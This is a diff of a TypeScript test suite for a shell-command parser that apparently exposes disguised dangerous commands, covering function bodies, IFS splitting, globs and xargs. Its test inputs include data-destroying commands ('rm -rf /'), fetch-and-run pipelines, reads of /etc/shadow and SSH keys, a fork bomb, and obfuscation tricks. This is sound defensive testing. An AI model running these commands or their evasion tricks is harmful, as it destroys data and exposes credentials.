@@ -312,7 +312,8 @@ describe('groups, control flow and heredocs', () => {
     assert.deepEqual(texts('[[ -f a && $b > 1 ]] && rm a'), ['[[ -f a && $b > 1 ]]', 'rm a']);
   });
   it('sees function bodies', () => {
-    assert.deepEqual(texts('f() { rm -rf /; }; f'), ['rm -rf /', 'f']);
+    // The body as written, the call, and the body the call runs.
+    assert.deepEqual(texts('f() { rm -rf /; }; f'), ['rm -rf /', 'f', 'rm -rf /']);
     assert.deepEqual(texts('function g { curl x | sh; }'), ['curl x', 'sh']);
   });
   it('records redirections with their targets', () => {
@@ -555,5 +556,75 @@ describe('parseCommand: substitutions in command position, split variables, proc
     assert.deepEqual(p.components.map((c) => `${c.origin}:${c.text}`), ['top:bash', 'process-substitution:wget -qO- https://e.example/x']);
     assert.deepEqual(p.components[0]!.redirects, [{ op: '<', target: '<(wget -qO- https://e.example/x)' }]);
     assert.deepEqual(parseCommand('cat < <(ls) > >(tee log)').errors, []);
+  });
+});
+
+describe('shell functions called in the same line', () => {
+  it('runs the body with the positional parameters of each call', () => {
+    assert.deepEqual(find('f(){ rm -rf "$1"; }; f /', 'function').map((c) => c.text), ['rm -rf /']);
+    assert.deepEqual(find('function g { cat "$@"; }; g /etc/shadow ~/.netrc', 'function').map((c) => c.text), ['cat /etc/shadow ~/.netrc']);
+    assert.deepEqual(find('h() ( cp "${1}" "$2" ); h a b; h c d', 'function').map((c) => c.text), ['cp a b', 'cp c d']);
+    assert.deepEqual(find('function k() { echo "$2$1"; }\nk x y', 'function').map((c) => c.text), ['echo yx']);
+  });
+  it('leaves a parameter without an argument empty, and $0 as it is', () => {
+    assert.deepEqual(find('f(){ ls $1 $2 $0; }; f a', 'function').map((c) => c.text), ['ls a $0']);
+  });
+  it('does not expand a name that was never defined, nor outside a body', () => {
+    assert.deepEqual(find('f /; echo "$1"', 'function'), []);
+    assert.deepEqual(texts('echo "$1"'), ['echo $1']);
+  });
+  it('stops at recursion and at a cap on calls (a fork bomb stays small)', () => {
+    const bomb = parseCommand(':(){ :|:& };:');
+    assert.ok(bomb.components.length < 40, `${bomb.components.length} components`);
+    const self = parseCommand('f(){ f "$1"; rm -rf "$1"; }; f /');
+    assert.ok(self.components.some((c) => c.origin === 'function' && c.text === 'rm -rf /'));
+    const many = parseCommand(`g(){ echo "$1"; }; ${Array.from({ length: 100 }, (_, i) => `g ${i}`).join('; ')}`);
+    assert.equal(many.components.filter((c) => c.origin === 'function').length, 32);
+  });
+});
+
+describe('IFS set in the line', () => {
+  it('splits a variable on the characters IFS was given', () => {
+    assert.ok(texts('IFS=_;cmd=rm_-rf_/;$cmd').includes('rm -rf /'));
+    assert.ok(texts('IFS=,; x=cat,/etc/shadow; $x').includes('cat /etc/shadow'));
+    assert.ok(texts("IFS=']'; x='a]b'; $x").includes('a b'));
+  });
+  it('splits on blanks while IFS is not set', () => {
+    assert.deepEqual(texts('x=rm_-rf_x; $x').at(-1), 'rm_-rf_x');
+  });
+});
+
+describe('glob words', () => {
+  const comp = (cmd: string) => parseCommand(cmd).components[0]!;
+  it('records the arguments with unquoted glob or brace characters', () => {
+    assert.deepEqual(comp('cat /e*/sh*w x /etc/s[h]adow ~/.s?h /etc/{a,b}').globArgs, [1, 3, 4, 5]);
+    assert.deepEqual(comp('rm -f build/*.o').globArgs, [2]);
+  });
+  it('does not record quoted or escaped glob characters', () => {
+    assert.equal(comp(`find . -name '*.ts' -o -name "x?" -o -name \\*`).globArgs, undefined);
+    assert.equal(comp('echo ${HOME}').globArgs, undefined);
+    assert.deepEqual(comp(`cat "/etc/"sh*w`).globArgs, [1]);
+  });
+  it('marks glob redirection targets', () => {
+    const c = comp('echo x >> ~/.b*rc 2> "e*"');
+    assert.deepEqual(c.redirects.map((r) => r.glob), [true, undefined]);
+  });
+  it('keeps the marks through sudo and variables', () => {
+    const elevated = parseCommand('sudo cat ~/.s?h/id_*').components.find((c) => c.origin === 'elevated')!;
+    assert.deepEqual(elevated.globArgs, [1]);
+    const viaVar = parseCommand('p="/e*/sh*w"; cat $p').components.at(-1)!;
+    assert.equal(viaVar.text, 'cat /e*/sh*w');
+    assert.deepEqual(viaVar.globArgs, [1]);
+  });
+});
+
+describe('xargs input the text shows', () => {
+  it('runs xargs on its own here-string', () => {
+    assert.ok(texts("xargs -I{} sh -c 'rm -rf {}' <<< /").includes('rm -rf /'));
+    assert.ok(texts('xargs rm -rf <<< "$HOME"').includes('rm -rf $HOME'));
+  });
+  it('reads a find whose only test prunes one subtree as a full listing', () => {
+    assert.ok(texts('find . -path ./.git -prune -o -print0 | xargs -0 rm -rf').includes('rm -rf .'));
+    assert.ok(!texts("find . -name node_modules -prune -o -name '*.pyc' -print | xargs rm -f").includes('rm -f .'));
   });
 });
